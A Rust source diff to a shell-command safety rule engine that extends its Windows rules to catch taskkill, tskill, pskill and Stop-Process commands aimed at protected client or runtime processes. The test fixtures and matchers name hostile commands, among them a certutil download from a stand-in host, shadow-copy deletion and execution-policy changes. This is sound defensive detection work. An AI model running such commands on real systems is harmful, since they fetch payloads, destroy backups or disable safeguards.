@@ -2,7 +2,8 @@
 
 use std::borrow::Cow;
 
-use super::predicate;
+use super::selfprotect::RUNTIMES;
+use super::{lists, predicate};
 use crate::domain::{Severity, Verdict};
 use crate::rules::Invocation;
 use crate::rules::matcher::{Found, Instead, RULE, Rule, Scene, Trigger, runs};
@@ -34,6 +35,8 @@ const OWN: &[&str] = &[
     "net1",
     "schtasks",
     "taskkill",
+    "tskill",
+    "pskill",
     "takeown",
     "icacls",
     "wevtutil",
@@ -185,12 +188,26 @@ pub(super) const RULES: &[Rule] = &[
             "Set-ExecutionPolicy Unrestricted -Force",
             "reg add 'HKCU\\Software\\X' /v x /d x.exe",
             "certutil -urlcache -split -f http://x.example/x.cer x.cer",
+            "taskkill /F /IM node.exe",
+            "taskkill //F //IM node.exe",
+            "taskkill.exe /im Node.exe /f /t",
+            "taskkill /F /FI \"IMAGENAME eq node.exe\"",
+            "tskill node",
+            "Stop-Process -Name node -Force",
+            "Get-Process node | Stop-Process -Force",
         ],
         silent: &[
             "Get-ScheduledTask",
             "Get-ExecutionPolicy",
             "reg query 'HKCU\\Software'",
             "certutil -hashfile a.zip SHA256",
+            "taskkill /PID 4242 /F",
+            "taskkill /F /IM vite.exe",
+            "taskkill /F /IM python.exe",
+            "tasklist /FI \"IMAGENAME eq node.exe\"",
+            "taskkill /?",
+            "Stop-Process -Id 4242",
+            "Get-Process node",
         ],
         ..RULE
     },
@@ -776,7 +793,8 @@ fn statement(stage: &str, before: &str) -> Verdict {
         "wmic" => block(
             holds(&["shadowcopy delete", "process call create", "product where"])
                 || has(&["os"]) && has(&["reboot", "shutdown", "win32shutdown"]),
-        ),
+        )
+        .max(if has(&["terminate"]) { ended(rest) } else { Verdict::Allow }),
         "wbadmin" => block(has(&["delete"])),
         "bcdedit" => block(words.iter().any(|word| matches!(*word, "/set" | "/delete" | "/deletevalue"))),
         "reagentc" => block(has(&["/disable"])),
@@ -828,9 +846,16 @@ fn statement(stage: &str, before: &str) -> Verdict {
         }
         "clear-recyclebin" => ask(true),
         "set-itemproperty" | "new-itemproperty" => ask(holds(&["policies\\"])).max(block(autostart(rest))),
-        "taskkill" => block(has(&["*"])).max(block(holds(&["lsass", "winlogon", "csrss", "svchost"]))),
-        "stop-process" | "spps" => {
-            block(has(&["*"]) || matches!(before.trim(), "get-process" | "ps" | "gps"))
+        "taskkill" => {
+            block(has(&["*"]) || holds(&["lsass", "winlogon", "csrss", "svchost"])).max(ended(rest))
+        }
+        "tskill" | "pskill" => ended(rest),
+        "stop-process" | "spps" | "kill" => {
+            let (lister, listed) = unwrapped(before).split_once(' ').unwrap_or((before.trim(), ""));
+            let lists = matches!(lister, "get-process" | "ps" | "gps");
+            block(name != "kill" && (has(&["*"]) || lists && listed.is_empty()))
+                .max(ended(rest))
+                .max(if lists { ended(listed) } else { Verdict::Allow })
         }
         "takeown" => block(has(&["/r"]) && roots(rest)),
         "icacls" => block(roots(rest) && has(&["/t"])).max(ask(holds(&["everyone:f", "everyone:(f)"]))),
@@ -874,6 +899,21 @@ fn statement(stage: &str, before: &str) -> Verdict {
 }
 
 /// A place of the registry from which programs are started by themselves.
+/// What ending the processes that a text names deserves: the client, or all of the kind that it may run in.
+fn ended(text: &str) -> Verdict {
+    let names = || {
+        let words = text.split(|c: char| c.is_whitespace() || "'\"=,;()%".contains(c));
+        words.map(|word| word.strip_suffix(".exe").unwrap_or(word))
+    };
+    if names().any(|name| lists::CLIENTS.contains(&name)) {
+        Verdict::Block
+    } else if names().any(|name| RUNTIMES.contains(&name)) {
+        Verdict::Modify
+    } else {
+        Verdict::Allow
+    }
+}
+
 fn autostart(text: &str) -> bool {
     ["currentversion\\run", "winlogon", "image file execution", "\\appinit_dlls", "\\active setup"]
         .iter()
